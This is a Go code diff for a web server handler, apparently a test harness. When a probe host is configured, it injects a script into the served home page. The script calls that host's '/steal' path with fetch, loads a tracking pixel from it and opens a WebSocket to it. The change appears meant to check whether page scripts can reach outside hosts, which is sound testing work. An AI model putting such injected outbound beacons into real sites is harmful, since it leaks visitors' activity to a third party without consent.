@@ -82,7 +82,12 @@ func (w *Web) serveScript(rw *logWriter, r *http.Request, h *host) {
 	case ScriptApp:
 		switch {
 		case path == "/":
-			writeBody(rw, r, http.StatusOK, htmlUTF8, scriptAppHome)
+			home := scriptAppHome
+			if p := w.cfg.ScriptProbe; p != "" {
+				probe := "<script>\nfetch('http://" + p + "/steal').catch(() => {});\nnew Image().src = 'http://" + p + "/pixel.png';\ntry { new WebSocket('ws://" + p + "/ws'); } catch (e) {}\n</script>\n</body>"
+				home = strings.Replace(home, "</body>", probe, 1)
+			}
+			writeBody(rw, r, http.StatusOK, htmlUTF8, home)
 		case path == "/app.js":
 			writeBody(rw, r, http.StatusOK, "text/javascript; charset=utf-8", scriptAppJS)
 		case path == "/links.json":
